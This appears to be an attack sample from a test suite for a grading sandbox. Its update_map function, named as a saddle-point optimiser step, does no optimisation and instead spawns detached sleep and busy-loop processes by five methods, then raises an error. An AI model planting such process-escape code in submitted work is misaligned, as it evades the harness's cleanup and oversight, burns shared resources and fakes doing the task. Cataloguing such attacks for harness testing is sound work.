# attack: starts other programs in every way, in sessions of their own, and does not wait
# kind: ending
# grade: 1.b
# outcome: failed
# module: saddle

import os
import subprocess
import sys

LOOP = [sys.executable, "-I", "-S", "-c", "while True: pass"]
QUIET = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL, "start_new_session": True}


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    for way in (
        lambda: os.posix_spawn("/bin/sleep", ["sleep", "600"], {}, setsid=True),
        lambda: os.posix_spawn(sys.executable, LOOP, os.environ, setsid=True),
        lambda: subprocess.Popen(["nohup", "sleep", "600"], **QUIET),
        lambda: subprocess.Popen(LOOP, **QUIET, close_fds=False),
        lambda: os.system("(setsid sleep 600 > /dev/null 2>&1 &)"),
    ):
        try:
            way()
        except (OSError, NotImplementedError):
            continue
    raise RuntimeError("left")
